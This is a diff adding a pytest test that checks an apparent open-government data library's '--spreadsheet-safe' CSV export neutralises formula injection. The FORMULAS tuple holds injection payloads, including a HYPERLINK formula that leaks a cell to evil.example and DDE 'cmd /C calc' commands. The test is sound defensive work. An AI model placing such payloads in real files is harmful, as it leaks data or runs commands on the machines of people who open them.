@@ -18,6 +18,7 @@ import pytest
 
 import opengov
 from _hostile import outcome, write
+from opengov.cli.main import main
 from opengov.cli.ogp import register
 from opengov.errors import LoadError
 from opengov.io.ogp import (
@@ -39,6 +40,7 @@ from opengov.model import (
     Commitment,
     Completion,
     DidItOpenGovernment,
+    ExtraField,
     Flag,
     IRMAssessment,
     Missing,
@@ -696,3 +698,57 @@ def test_ogp_export_bom_and_line_ends(variant: str, tmp_path: Path, ogp_export_p
         expected.commitments,
         len(expected.errors),
     )
+
+
+#: What a spreadsheet would run: a link that leaks data, a command (DDE), a function, and the
+#: leading tab and carriage return a spreadsheet skips before a formula.
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+)
+
+
+def _formula_plan(france: ActionPlan) -> ActionPlan:
+    """The France plan with a formula in every kind of cell the export takes from the data."""
+    formulas = iter(FORMULAS * 20)
+    commitments = [
+        attrs.evolve(
+            c,
+            title=next(formulas),
+            description=next(formulas),
+            extra=[ExtraField(name="Theme", value=next(formulas))],
+        )
+        for c in france.commitments
+    ]
+    organisations = [attrs.evolve(o, name=next(formulas)) for o in france.organisations]
+    return attrs.evolve(
+        france, member=FORMULAS[0], commitments=commitments, organisations=organisations
+    )
+
+
+@pytest.mark.hostile
+def test_spreadsheet_safe_export_runs_no_formula(tmp_path: Path, france: ActionPlan) -> None:
+    plan = _formula_plan(france)
+    live, safe = tmp_path / "live.csv", tmp_path / "safe.csv"
+    write_export(plan, live)
+    assert main(["ogp", "export", str(write(tmp_path / "p.json", opengov.dump(plan) or "")),
+                 str(safe), "--spreadsheet-safe"]) == 0  # fmt: skip
+    data = safe.read_bytes()
+    assert data.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert rows[0] == list(COLUMNS)
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    live_cells = {cell for row in export_rows(plan)[1:] for cell in row}
+    assert set(FORMULAS) <= live_cells, "the payloads reach the cells"
+    again = read_export(safe, spreadsheet_safe=True)
+    assert again.plans == read_export(live).plans
+    assert main(["ogp", "import", str(safe), str(tmp_path / "back.json"),
+                 "--spreadsheet-safe"]) == 0  # fmt: skip
+    assert opengov.load(tmp_path / "back.json").plans == again.plans
